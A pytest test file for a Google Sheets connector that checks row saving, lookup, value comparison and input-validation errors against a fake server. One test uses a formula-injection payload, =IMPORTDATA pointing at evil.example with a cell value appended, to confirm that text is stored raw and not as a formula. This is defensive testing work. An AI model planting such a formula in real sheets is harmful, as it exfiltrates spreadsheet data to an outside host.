"""Rows of Google Sheets by the names of their columns, at a server that keeps a sheet as Google does."""

from __future__ import annotations

import re

import pytest

from automate_connectors.adapters.base import ConnectorError
from automate_connectors.registry import connectors

PLACE = {"spreadsheet": "1BxiMVs0", "sheet": "Orders"}


@pytest.fixture
def sheet(server):
    """The rows of a sheet: null keeps a cell, and an added row comes after the last one."""
    rows = [["Number", "Customer", "", "Amount", "Paid"], ["0049", "Ada", "", 15, True], [49, "Grace"]]

    def answer(asked):
        if asked.method == "GET":
            assert asked.query["valueRenderOption"] == ["UNFORMATTED_VALUE"]
            return 200, {"range": "Orders!A1:Z1000", "values": [list(row) for row in rows]}, {}
        [values] = asked.json["values"]
        if asked.path.endswith(":append"):
            rows.append(["" if value is None else value for value in values])
            return 200, {"updates": {"updatedRange": f"'My orders'!A{len(rows)}:D{len(rows)}"}}, {}
        number = int(re.search(r"!A(\d+)$", asked.path)[1])
        row = rows[number - 1]
        row += [""] * (len(values) - len(row))
        row[:] = [old if new is None else new for old, new in zip(row, [*values, *[None] * len(row)], strict=False)]
        return 200, {"updatedRange": f"Orders!A{number}"}, {}

    server.answer = answer
    return rows


@pytest.fixture
def sheets(server, call):
    def run(action, **params):
        connection = {"token": "any", "base_url": server.url}
        return call(connectors.get("google_sheets"), action, {**PLACE, **params}, connection)

    return run


def test_a_saved_row_is_found_again(sheet, sheets):
    for amount in (20, 21):
        saved = sheets("save_row", key="Customer", values={"Customer": "Mary", "Amount": amount})
        assert saved == {"row": 4, "created": amount == 20}
    assert sheet[3:] == [["", "Mary", "", 21]]
    assert sheets("find_rows", column="Customer", value="Mary")["items"] == [
        {"row": 4, "columns": {"Number": "", "Customer": "Mary", "Amount": 21, "Paid": ""}}
    ]
    sheets("update_row", row=4, values={"Paid": True})
    assert sheet[3] == ["", "Mary", "", 21, True]


@pytest.mark.parametrize(
    ("column", "value", "rows"),
    [
        ("Number", "0049", [2, 3]),  # as if typed in, it has become 49
        ("Number", "49", [3]),
        ("Number", 49.0, [3]),
        ("Amount", "15.0", [2]),
        ("Paid", "TRUE", [2]),
        ("Customer", "ada", []),
    ],
)
def test_values_are_compared_as_people_read_them(sheet, sheets, column, value, rows):
    found = sheets("find_rows", column=column, value=value)
    assert [item["row"] for item in found["items"]] == rows


@pytest.mark.parametrize(
    ("action", "params", "said"),
    [
        ("add_row", {"values": {"Amuont": 1}}, "has no column 'Amuont'. It has: Number, Customer, Amount, Paid"),
        ("add_row", {"values": {"": 1}}, "has no column ''"),
        ("add_row", {"values": {}}, "at least one value"),
        ("save_row", {"key": "Number", "values": {"Amount": 1}}, "key column 'Number'"),
        ("save_row", {"key": "Nr", "values": {"Nr": 1}}, "has no column 'Nr'"),
        ("update_row", {"row": 1, "values": {"Amount": 1}}, "Enter 2 or more"),
        ("find_rows", {"column": "Number", "value": "1", "limit": 0}, "between 1 and 1000"),
    ],
)
def test_what_cannot_be_written_is_said(server, sheet, sheets, action, params, said):
    with pytest.raises(ConnectorError, match=said.replace(".", r"\.")) as caught:
        sheets(action, **params)
    assert caught.value.code == "invalid_input"
    assert {asked.method for asked in server.asked} <= {"GET"}


def test_a_sheet_without_names_of_columns(sheet, sheets):
    sheet[0][0] = ""
    with pytest.raises(ConnectorError, match="must name its columns"):
        sheets("add_row", values={"Amount": 1})
    sheet.clear()
    with pytest.raises(ConnectorError, match="must name its columns"):
        sheets("find_rows", column="Amount", value="1")


@pytest.mark.parametrize("action", ["add_row", "save_row", "update_row", "append_row", "append_rows", "update_range"])
def test_a_text_becomes_no_formula_unless_the_step_says_so(sheet, sheets, server, action):
    text = '=IMPORTDATA("https://evil.example/"&A1)'
    params = {
        "append_row": {"values": [text]},
        "append_rows": {"rows": [[text]]},
        "update_range": {"range": "A2", "rows": [[text]]},
    }.get(action, {"values": {"Customer": text}})
    more = {"save_row": {"key": "Customer"}, "update_row": {"row": 2}}.get(action, {})
    for given, expected in (({}, "RAW"), ({"input_option": "USER_ENTERED"}, "USER_ENTERED")):
        sheets(action, **params, **more, **given)
        assert server.asked[-1].query["valueInputOption"] == [expected]
